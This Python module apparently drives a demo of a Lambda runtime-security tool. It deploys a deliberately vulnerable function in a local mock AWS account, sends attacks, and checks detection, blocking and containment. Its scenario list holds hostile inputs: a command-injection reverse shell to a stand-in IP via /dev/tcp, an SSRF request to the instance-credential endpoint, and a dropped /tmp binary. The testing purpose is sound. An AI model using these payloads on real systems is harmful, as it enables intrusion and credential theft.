"""The demo's story, run for real: platform, sample functions, attacks, findings, containment.

Every step appends to a :class:`Timeline` (shown as it happens, then in the reports). What
the report says is read back from the local account at the end: the findings table, the
state machines' executions, the actions table, the functions' configuration.
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import os
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ramparts_cli._demo_account import LocalAccount
from ramparts_cli.errors import CliError

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "examples" / "functions"
DROPPED = "/tmp/.cache-helper"  # noqa: S108 - the attack's own path
ATTACKER = "203.0.113.7"  # TEST-NET-3: documentation space, and unreachable in the namespace
HEALTHY, VULNERABLE = "orders-api", "orders-dashboard"
TAGS = {"app": "orders", "team": "payments"}
CONCURRENCY = {HEALTHY: 10, VULNERABLE: 5}


@dataclass(frozen=True)
class Scenario:
    function: str
    kind: str  # "benign" | "attack"
    title: str
    event: dict[str, Any]
    expect_rules: frozenset[str] = frozenset()
    needs_netns: bool = False


def scenarios() -> list[Scenario]:
    v = VULNERABLE
    return [
        Scenario(HEALTHY, "benign", "read an order", {"order_id": "1001"}),
        Scenario(HEALTHY, "benign", "read another order", {"order_id": "1002"}),
        Scenario(
            v,
            "benign",
            "count the bytes of an upload",
            {"action": "wordcount", "name": "notes.txt"},
        ),
        Scenario(
            v,
            "benign",
            "describe the orders table",
            {
                "action": "describe",
                "service": "dynamodb",
                "operation": "describe_table",
                "params": {"TableName": "orders"},
            },
        ),
        Scenario(
            v,
            "attack",
            "command injection: a reverse shell",
            {"action": "wordcount", "name": f"x'; sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1 #"},
            frozenset({"default.shell", "default.network-tool"}),
            needs_netns=True,
        ),
        Scenario(
            v,
            "attack",
            "SSRF to the instance credential endpoint",
            {
                "action": "preview",
                "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            },
            frozenset({"default.credential-endpoint"}),
            needs_netns=True,
        ),
        Scenario(
            v,
            "attack",
            "a dropped binary run from /tmp",
            {
                "action": "wordcount",
                "name": f"x'; cp /bin/true {DROPPED}; chmod +x {DROPPED}; {DROPPED} #",
            },
            frozenset({"default.writable-exec"}),
        ),
        Scenario(
            v,
            "attack",
            "an unexpected IAM call",
            {"action": "describe", "service": "iam", "operation": "list_users"},
            frozenset({"policy.aws"}),
        ),
    ]


@dataclass
class Outcome:
    scenario: Scenario
    mode: str
    response: Any
    events: list[dict[str, Any]] = field(default_factory=list)

    @property
    def rules(self) -> set[str]:
        out: set[str] = set()
        for e in self.events:
            if e.get("rule"):
                out.add(e["rule"])
            out.update(e.get("matched") or [])
        return out

    @property
    def verdicts(self) -> set[str]:
        return {e["verdict"] for e in self.events}

    @property
    def passed(self) -> bool:
        s = self.scenario
        if s.kind == "benign":
            return (
                not self.events
                and isinstance(self.response, dict)
                and bool(self.response.get("ok"))
            )
        if not s.expect_rules <= self.rules:
            return False
        if self.mode == "enforce":
            return "block" in self.verdicts
        return self.verdicts == {"alert"}

    def to_dict(self) -> dict[str, Any]:
        return {
            "function": self.scenario.function,
            "mode": self.mode,
            "kind": self.scenario.kind,
            "title": self.scenario.title,
            "event": self.scenario.event,
            "response": self.response,
            "rules": sorted(self.rules),
            "verdicts": sorted(self.verdicts),
            "expected_rules": sorted(self.scenario.expect_rules),
            "passed": self.passed,
            "sensor_events": self.events,
        }


@dataclass
class Timeline:
    started: float = field(default_factory=time.monotonic)
    entries: list[dict[str, Any]] = field(default_factory=list)
    say: Callable[[str], None] | None = None
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, phase: str, text: str, **detail: Any) -> None:
        t = round(time.monotonic() - self.started, 2)
        with self.lock:
            self.entries.append({"t": t, "phase": phase, "text": text, **detail})
        if self.say is not None:
            self.say(f"{t:6.1f}s  {phase:<9} {text}")


def sensor_lines(log_lines: list[str]) -> list[dict[str, Any]]:
    out = []
    for line in log_lines:
        start = line.find("{")
        if start < 0 or '"ramparts"' not in line:
            continue
        try:
            obj = json.loads(line[start:])
        except ValueError:
            continue
        if isinstance(obj, dict) and "ramparts" in obj:
            out.append(obj)
    return out


def subscription_event(account: str, function: str, lines: list[str], t0: int) -> dict[str, Any]:
    """What a CloudWatch Logs subscription filter delivers to the ingest."""
    payload = {
        "messageType": "DATA_MESSAGE",
        "owner": account,
        "logGroup": f"/aws/lambda/{function}",
        "logStream": time.strftime("%Y/%m/%d/[$LATEST]", time.gmtime()) + "0" * 32,
        "subscriptionFilters": ["ramparts"],
        "logEvents": [
            {"id": f"{t0 + i:056d}", "timestamp": t0 + i, "message": line}
            for i, line in enumerate(lines)
        ],
    }
    data = base64.b64encode(gzip.compress(json.dumps(payload).encode())).decode()
    return {"awslogs": {"data": data}}


class Demo:
    def __init__(self, account: LocalAccount, isolated: bool, timeline: Timeline) -> None:
        self.account = account
        self.isolated = isolated
        self.timeline = timeline
        self.work = Path(tempfile.mkdtemp(prefix="ramparts-demo-"))
        self.outcomes: list[Outcome] = []
        self.sensor: dict[str, list[dict[str, Any]]] = {}
        self.executions: dict[str, dict[str, Any]] = {}  # arn -> {rule, finding}
        self.approvals: list[dict[str, Any]] = []
        self.alerts: list[dict[str, Any]] = []
        self.final_calls: list[dict[str, Any]] = []
        self.ingest_results: list[dict[str, Any]] = []
        self.deployment: Any = None
        self.layer_zip = self.work / "ramparts-layer.zip"
        account.on_route = self._routed

    # -- 1. the platform ------------------------------------------------------------------
    def platform(self) -> None:
        from ramparts_cli._demo_deploy import STACK, Deployment, synth_core

        t = time.monotonic()
        synth = synth_core(self.account.account, self.account.region, str(self.work / "cdk.out"))
        n = len(synth.template["Resources"])
        self.timeline.add(
            "platform",
            f"synthesized the CDK app's {STACK} stack (playbooks on): {n} resources "
            f"in {time.monotonic() - t:.1f} s",
        )
        dep = Deployment(self.account, synth)
        dep.deploy()
        self.deployment = dep
        summary = dep.summary()
        made = sum(summary["created"].values())
        kinds = ", ".join(f"{n} {k.split('::')[-1]}" for k, n in sorted(summary["created"].items()))
        self.timeline.add(
            "platform",
            f"created {made} resources from the template in the local account ({kinds})",
            summary=summary,
        )
        for kind, info in summary["not_created"].items():
            self.timeline.add("platform", f"not created: {info['count']} {kind}: {info['reason']}")
        self.ingest = dep.find("AWS::Lambda::Function", "Ingest")
        self.actions_table = dep.find("AWS::DynamoDB::Table", "Actions")
        self.findings_table = dep.find("AWS::DynamoDB::Table", "Findings")
        # the security team's inbox: an SQS queue subscribed to the alert topic
        sqs, sns = self.account.client("sqs"), self.account.client("sns")
        self.inbox = sqs.create_queue(QueueName="security-team-inbox")["QueueUrl"]
        inbox_arn = sqs.get_queue_attributes(QueueUrl=self.inbox, AttributeNames=["QueueArn"])[
            "Attributes"
        ]["QueueArn"]
        topic = dep.find("AWS::SNS::Topic", "Alerts")
        sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=inbox_arn)
        self.timeline.add(
            "platform", "subscribed the security team's inbox (SQS) to the alert topic"
        )

    # -- 2. the sample functions ----------------------------------------------------------
    def functions(self) -> None:
        from ramparts_cli.layer import build_layer

        built = build_layer(self.work)
        self.layer_zip = built.path
        lam, iam, s3 = (self.account.client(s) for s in ("lambda", "iam", "s3"))
        ddb = self.account.client("dynamodb")
        ddb.create_table(
            TableName="orders",
            KeySchema=[{"AttributeName": "order_id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "order_id", "AttributeType": "S"}],
            BillingMode="PAY_PER_REQUEST",
        )
        for oid, total in (("1001", "42.50"), ("1002", "7.00")):
            ddb.put_item(TableName="orders", Item={"order_id": {"S": oid}, "total": {"S": total}})
        iam.create_user(UserName="admin")
        layer = lam.publish_layer_version(
            LayerName="ramparts-sensor",
            Content={"ZipFile": self.layer_zip.read_bytes()},
            CompatibleRuntimes=["python3.11", "python3.12", "python3.13"],
        )["LayerVersionArn"]
        s3.create_bucket(Bucket="orders-deployments")
        trust = json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Effect": "Allow",
                        "Principal": {"Service": "lambda.amazonaws.com"},
                        "Action": "sts:AssumeRole",
                    }
                ],
            }
        )
        for name, folder in ((HEALTHY, "healthy"), (VULNERABLE, "vulnerable")):
            from ramparts_cli._demo_deploy import _zip_dir

            role = iam.create_role(RoleName=f"{name}-role", AssumeRolePolicyDocument=trust)
            s3.put_object(
                Bucket="orders-deployments", Key=f"{name}.zip", Body=_zip_dir(EXAMPLES / folder)
            )
            lam.create_function(
                FunctionName=name,
                Runtime="python3.11",
                Role=role["Role"]["Arn"],
                Handler="app.handler",
                Code={"S3Bucket": "orders-deployments", "S3Key": f"{name}.zip"},
                Layers=[layer],
                Environment={
                    "Variables": {
                        "AWS_LAMBDA_EXEC_WRAPPER": "/opt/ramparts-wrapper",
                        "RAMPARTS_MODE": "monitor",
                        "RAMPARTS_POLICY": "ramparts.yaml",
                        "ORDERS_TABLE": "orders",
                    }
                },
                Tags=TAGS,
            )
            lam.put_function_concurrency(
                FunctionName=name, ReservedConcurrentExecutions=CONCURRENCY[name]
            )
        lam.create_function_url_config(FunctionName=VULNERABLE, AuthType="NONE")
        lam.add_permission(
            FunctionName=VULNERABLE,
            StatementId="FunctionURLAllowPublicAccess",
            Action="lambda:InvokeFunctionUrl",
            Principal="*",
            FunctionUrlAuthType="NONE",
        )
        self.before = {n: self.state(n) for n in (HEALTHY, VULNERABLE)}
        self.timeline.add(
            "deploy",
            f"deployed {HEALTHY} (healthy) and {VULNERABLE} (command injection, SSRF, "
            f"open AWS proxy, public function URL), both with the ramparts-sensor layer "
            f"({built.size // 1024} KiB) attached by AWS_LAMBDA_EXEC_WRAPPER",
        )

    # -- 3. traffic, in one mode ----------------------------------------------------------
    def set_mode(self, mode: str) -> None:
        lam = self.account.client("lambda")
        for name in (HEALTHY, VULNERABLE):
            env = lam.get_function_configuration(FunctionName=name)["Environment"]["Variables"]
            env["RAMPARTS_MODE"] = mode
            lam.update_function_configuration(FunctionName=name, Environment={"Variables": env})
        self.timeline.add("deploy", f"set RAMPARTS_MODE={mode} on both functions (a redeploy)")

    def invoke(self, name: str, events: list[dict[str, Any]]) -> tuple[Any, list[str]]:
        """Run the deployed function with ``ramparts invoke``'s machinery; None if throttled."""
        import urllib.request

        from ramparts_cli.invoke import run_invocations

        lam = self.account.client("lambda")
        if lam.get_function_concurrency(FunctionName=name).get("ReservedConcurrentExecutions") == 0:
            return None, []
        got = lam.get_function(FunctionName=name)
        conf = got["Configuration"]
        import hashlib

        revision = hashlib.sha256(conf["CodeSha256"].encode()).hexdigest()[:16]
        code = self.work / "code" / name / revision
        if not code.exists():
            with urllib.request.urlopen(got["Code"]["Location"]) as resp:  # noqa: S310 - moto
                data = resp.read()
            code.mkdir(parents=True)
            archive = code.parent / f"{revision}.zip"
            archive.write_bytes(data)
            with zipfile.ZipFile(archive) as zf:
                zf.extractall(code)
        env = {
            **conf["Environment"]["Variables"],
            "AWS_LAMBDA_FUNCTION_NAME": name,
            "AWS_ENDPOINT_URL": self.account.endpoint,
            "AWS_REGION": self.account.region,
            "AWS_DEFAULT_REGION": self.account.region,
        }
        result = run_invocations(
            conf["Handler"], code, events, env=env, layer=self.layer_zip, timeout=30
        )
        if len(result.responses) != len(events):
            raise CliError(
                f"{name} answered {len(result.responses)} of {len(events)} invocations",
                hint=f"its log:\n{chr(10).join(result.log_lines[-20:])}",
            )
        return result, result.log_lines

    def traffic(self, mode: str) -> None:
        plan = [s for s in scenarios() if self.isolated or not s.needs_netns]
        results: dict[str, tuple[Any, list[str]]] = {}
        errors: list[BaseException] = []

        def one(name: str) -> None:
            try:
                results[name] = self.invoke(name, [s.event for s in plan if s.function == name])
            except BaseException as exc:  # reported on the main thread
                errors.append(exc)

        self.timeline.add(
            mode,
            f"{len(plan)} requests ({sum(s.kind == 'attack' for s in plan)} attacks) "
            f"through `ramparts invoke` (awslambdaric, layer attached) ...",
        )
        threads = [threading.Thread(target=one, args=(n,)) for n in (HEALTHY, VULNERABLE)]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
        if errors:
            raise errors[0]
        for name in (HEALTHY, VULNERABLE):
            result, log = results[name]
            lines = sensor_lines(log)
            self.sensor.setdefault(mode, []).extend(lines)
            mine = [s for s in plan if s.function == name]
            for scenario, resp in zip(mine, result.responses, strict=True):
                events = [
                    e
                    for e in lines
                    if e.get("request_id") == resp.request_id
                    and e.get("verdict") in ("alert", "block")
                ]
                o = Outcome(scenario, mode, resp.payload, events)
                self.outcomes.append(o)
                verdict = (
                    ("BLOCKED " if "block" in o.verdicts else "ALERT ") + ", ".join(sorted(o.rules))
                    if o.rules
                    else "no alert"
                )
                self.timeline.add(
                    mode,
                    f"{name}: {scenario.kind} {scenario.title}: "
                    f"{describe(o.response, scenario.kind)}; {verdict}",
                    function=name,
                    kind=scenario.kind,
                    verdicts=sorted(o.verdicts),
                    passed=o.passed,
                )
            self.deliver(name, log)
        with contextlib.suppress(OSError):
            os.remove(DROPPED)  # what the "dropped binary" left behind

    # -- 4. logs -> ingest -> findings -> bus -> playbooks ----------------------------------
    def deliver(self, name: str, log: list[str]) -> None:
        logs = self.account.client("logs")
        group = f"/aws/lambda/{name}"
        with contextlib.suppress(Exception):
            logs.create_log_group(logGroupName=group)
        stream = f"demo-{len(self.ingest_results)}"
        logs.create_log_stream(logGroupName=group, logStreamName=stream)
        now = int(time.time() * 1000)
        if log:
            logs.put_log_events(
                logGroupName=group,
                logStreamName=stream,
                logEvents=[{"timestamp": now, "message": line} for line in log],
            )
        event = subscription_event(self.account.account, name, log, now)
        resp = self.account.client("lambda").invoke(
            FunctionName=self.ingest, Payload=json.dumps(event).encode()
        )
        body = json.loads(resp["Payload"].read() or b"{}")
        if resp.get("FunctionError"):
            raise CliError(f"the ingest function failed: {body}")
        self.ingest_results.append({"function": name, **body})
        self.timeline.add(
            "ingest",
            f"{len(log)} log lines of {name} -> ingest (CloudWatch Logs subscription event): "
            f"{body.get('events', 0)} events, {body.get('alerts', 0)} alerts, "
            f"{body.get('created', 0)} findings created, {body.get('updated', 0)} updated",
            function=name,
            counts=body,
        )
        self.settle()

    def _routed(self, rule: str, execution: str, event: dict[str, Any]) -> None:
        detail = event.get("detail") or {}
        fid = (detail.get("finding_info") or {}).get("uid", "")
        title = (detail.get("finding_info") or {}).get("title", "")
        resource = ((detail.get("resources") or [{}])[0]).get("uid", "")
        self.executions[execution] = {"rule": rule, "finding": fid}
        self.timeline.add(
            "respond",
            f"finding {title!r} on {resource.rsplit(':', 1)[-1]} -> EventBridge -> "
            f"{rule.split('-', 1)[-1][:40]} started",
            execution=execution,
            finding=fid,
        )

    def settle(self, timeout: float = 20, finished: bool = False) -> None:
        """Wait for the bus's deliveries and the started executions to reach a resting state."""
        sfn = self.account.client("stepfunctions")
        deadline = time.monotonic() + timeout
        quiet = 0
        while time.monotonic() < deadline:
            moved = self.account.deliver()
            running = []
            for arn in list(self.executions):
                d = sfn.describe_execution(executionArn=arn)
                if d["status"] == "RUNNING" and (finished or not self._waiting(arn)):
                    running.append(arn)
            quiet = quiet + 1 if not moved and not running else 0
            if quiet >= 3:
                break
            time.sleep(0.05)
        self.read_inbox()

    def _waiting(self, arn: str) -> bool:
        hist = self.account.client("stepfunctions").get_execution_history(
            executionArn=arn, reverseOrder=True, maxResults=5
        )["events"]
        return any(
            e["type"] == "TaskSubmitted"
            and "waitForTaskToken" in (e.get("taskSubmittedEventDetails") or {}).get("resource", "")
            for e in hist
        ) or any(
            e["type"] == "TaskScheduled"
            and "waitForTaskToken" in (e.get("taskScheduledEventDetails") or {}).get("resource", "")
            for e in hist
        )

    def read_inbox(self) -> None:
        sqs = self.account.client("sqs")
        while True:
            msgs = sqs.receive_message(QueueUrl=self.inbox, MaxNumberOfMessages=10).get(
                "Messages", []
            )
            if not msgs:
                return
            for m in msgs:
                sqs.delete_message(QueueUrl=self.inbox, ReceiptHandle=m["ReceiptHandle"])
                note = json.loads(m["Body"])
                attrs = note.get("MessageAttributes") or {}
                subject = note.get("Subject") or ""
                if "task_token" in attrs:
                    self.approvals.append(
                        {
                            "token": attrs["task_token"]["Value"],
                            "finding": (attrs.get("finding_id") or {}).get("Value", ""),
                            "playbook": (attrs.get("playbook") or {}).get("Value", ""),
                            "approved": False,
                        }
                    )
                    self.timeline.add("respond", f"inbox: {subject} (a task token)")
                else:
                    self.alerts.append({"subject": subject, "message": note.get("Message", "")})
                    self.timeline.add("alert", f"inbox: {subject}")

    # -- 5. approval ----------------------------------------------------------------------
    def approve_all(self) -> None:
        env = {**os.environ, **self.account.env()}
        env.pop("AWS_PROFILE", None)
        for a in self.approvals:
            if a["approved"]:
                continue
            proc = subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "ramparts_cli",
                    "approve",
                    a["token"],
                    "--region",
                    self.account.region,
                    "--by",
                    "ramparts-demo",
                ],
                env=env,
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
            )
            a["approved"] = proc.returncode == 0
            a["output"] = proc.stderr.strip()
            self.timeline.add(
                "approve",
                f"ramparts approve <token of {a['playbook']} for finding {a['finding'][:12]}...>: "
                + (proc.stderr.strip().splitlines() or ["(no output)"])[-1],
                ok=a["approved"],
            )
        self.settle(timeout=90, finished=True)

    # -- 6. the end state -----------------------------------------------------------------
    def state(self, name: str) -> dict[str, Any]:
        from botocore.exceptions import ClientError

        lam = self.account.client("lambda")
        conf = lam.get_function_configuration(FunctionName=name)
        try:
            url: str | None = lam.get_function_url_config(FunctionName=name)["FunctionUrl"]
        except ClientError:
            url = None
        role = conf["Role"].rsplit("/", 1)[-1]
        return {
            "function": name,
            "arn": conf["FunctionArn"],
            "reserved_concurrency": lam.get_function_concurrency(FunctionName=name).get(
                "ReservedConcurrentExecutions"
            ),
            "tags": lam.list_tags(Resource=conf["FunctionArn"])["Tags"],
            "function_url": url,
            "role_inline_policies": sorted(
                self.account.client("iam").list_role_policies(RoleName=role)["PolicyNames"]
            ),
            "mode": conf["Environment"]["Variables"].get("RAMPARTS_MODE"),
        }

    def last_calls(self) -> None:
        for name, event in (
            (HEALTHY, {"order_id": "1001"}),
            (VULNERABLE, {"action": "wordcount", "name": "notes.txt"}),
        ):
            result, _log = self.invoke(name, [event])
            if result is None:
                text = "refused: reserved concurrency 0 (Lambda would throttle: TooManyRequests)"
                ok = False
            else:
                payload = result.responses[0].payload
                ok = isinstance(payload, dict) and bool(payload.get("ok"))
                text = "answered" if ok else f"failed: {payload}"
            self.final_calls.append({"function": name, "invoked": result is not None, "ok": ok})
            self.timeline.add("after", f"invoke {name}: {text}", function=name)

    def findings(self) -> list[dict[str, Any]]:
        from functions.store import deserialize

        items = self.account.client("dynamodb").scan(TableName=self.findings_table)["Items"]
        out = []
        for raw in items:
            if raw.get("sk", {}).get("S") != "finding":
                continue
            f = deserialize(raw)
            out.append(
                {
                    "id": f.get("id"),
                    "rule_id": f.get("rule_id"),
                    "key": f.get("key"),
                    "title": f.get("title"),
                    "severity": int(f.get("severity") or 0),
                    "resource": (f.get("resource") or {}).get("uid"),
                    "count": int(f.get("count") or 0),
                    "status": f.get("status"),
                    "response": f.get("response"),
                    "first_seen": f.get("first_seen"),
                }
            )
        return sorted(out, key=lambda f: (-f["severity"], str(f["rule_id"])))

    def runs(self) -> list[dict[str, Any]]:
        import boto3

        sfn = self.account.client("stepfunctions")
        table = boto3.resource("dynamodb", region_name=self.account.region).Table(
            self.actions_table
        )
        out = []
        for arn, info in self.executions.items():
            d = sfn.describe_execution(executionArn=arn)
            fid = info["finding"]
            items = table.query(
                KeyConditionExpression="pk = :p",
                ExpressionAttributeValues={":p": f"finding#{fid}"},
            )["Items"]
            playbook = d["stateMachineArn"].rsplit(":", 1)[-1]
            actions = [
                {
                    "action": str(i.get("action") or i["sk"].rsplit("#", 1)[-1]),
                    "status": str(i.get("status")),
                    "before": i.get("before"),
                    "after": i.get("after"),
                    "at": str(i.get("at") or ""),
                }
                for i in items
                if str(i["sk"]).startswith("action#")
            ]
            response: dict[str, Any] = next(
                (i for i in items if str(i["sk"]).startswith("response#")), {}
            )
            approval = next((a for a in self.approvals if a["finding"] == fid), None)
            out.append(
                {
                    "execution": arn,
                    "state_machine": playbook,
                    "playbook": str(response.get("sk", "response#")).split("#", 1)[-1] or playbook,
                    "finding": fid,
                    "status": d["status"],
                    "response_status": response.get("status"),
                    "response_reason": response.get("reason"),
                    "approved_with_ramparts_approve": bool(approval and approval["approved"]),
                    "actions": sorted(actions, key=lambda a: a["at"]),
                }
            )
        return out


def describe(resp: Any, kind: str) -> str:
    if not isinstance(resp, dict):
        return str(resp)[:60]
    if resp.get("ok"):
        return "worked" if kind == "benign" else "went through"
    err = str(resp.get("error") or resp.get("errorMessage") or "failed")
    if "Ramparts blocked" in err:
        return "stopped by Ramparts"
    if "unreachable" in err.lower():
        return "failed: no route (sandboxed demo)"
    return "failed: " + err.split(":", 1)[0][:40]


def run_demo(
    isolated: bool,
    progress: Callable[[str], None] | None = None,
    keep: Callable[[LocalAccount, dict[str, Any]], None] | None = None,
) -> dict[str, Any]:
    """Run the whole story; the report (what ``--json`` prints)."""
    timeline = Timeline(say=progress)
    with LocalAccount() as account:
        timeline.add("account", f"local AWS account {account.account} (moto) at {account.endpoint}")
        demo = Demo(account, isolated, timeline)
        demo.platform()
        demo.functions()
        demo.traffic("monitor")
        demo.set_mode("enforce")
        demo.traffic("enforce")
        waiting = sum(1 for a in demo.approvals if not a["approved"])
        timeline.add("respond", f"{waiting} playbook run(s) wait for approval")
        demo.approve_all()
        demo.last_calls()
        report = build_report(demo)
        timeline.add("done", "report ready")
        report["timeline"] = timeline.entries
        if keep is not None:
            keep(account, report)
    return report


def build_report(demo: Demo) -> dict[str, Any]:
    findings = demo.findings()
    runs = demo.runs()
    after = {n: demo.state(n) for n in (HEALTHY, VULNERABLE)}
    skipped = [s.title for s in scenarios() if not demo.isolated and s.needs_netns]
    vuln_arn = after[VULNERABLE]["arn"]
    healthy_arn = after[HEALTHY]["arn"]
    contained = [
        r for r in runs if r["status"] == "SUCCEEDED" and r["response_status"] == "applied"
    ]
    checks = {
        "attacks seen in monitor mode": all(
            o.passed for o in demo.outcomes if o.mode == "monitor" and o.scenario.kind == "attack"
        ),
        "attacks blocked in enforce mode": all(
            o.passed for o in demo.outcomes if o.mode == "enforce" and o.scenario.kind == "attack"
        ),
        "benign requests worked without alerts": all(
            o.passed for o in demo.outcomes if o.scenario.kind == "benign"
        ),
        "findings on the vulnerable function": any(f["resource"] == vuln_arn for f in findings),
        "no finding on the healthy function": not any(
            f["resource"] == healthy_arn for f in findings
        ),
        "contain playbook applied after approval": bool(contained)
        and all(r["approved_with_ramparts_approve"] for r in contained),
        "vulnerable function contained": after[VULNERABLE]["reserved_concurrency"] == 0
        and "ramparts:contained" in after[VULNERABLE]["tags"]
        and after[VULNERABLE]["function_url"] is None,
        "healthy function untouched": {k: v for k, v in after[HEALTHY].items() if k != "mode"}
        == {k: v for k, v in demo.before[HEALTHY].items() if k != "mode"},
        "contained function no longer runs": any(
            c["function"] == VULNERABLE and not c["invoked"] for c in demo.final_calls
        ),
        "healthy function still serves": any(
            c["function"] == HEALTHY and c["ok"] for c in demo.final_calls
        ),
    }
    return {
        "isolated_network": demo.isolated,
        "skipped": skipped,
        "account": {"id": demo.account.account, "region": demo.account.region},
        "platform": demo.deployment.summary(),
        "outcomes": [o.to_dict() for o in demo.outcomes],
        "ingest": demo.ingest_results,
        "findings": findings,
        "alerts": demo.alerts,
        "playbook_runs": runs,
        "approvals": [{k: v for k, v in a.items() if k != "token"} for a in demo.approvals],
        "functions": {"before": demo.before, "after": after},
        "final_invocations": demo.final_calls,
        "checks": checks,
        "passed": all(checks.values()),
        "sensor_lines": demo.sensor,
    }
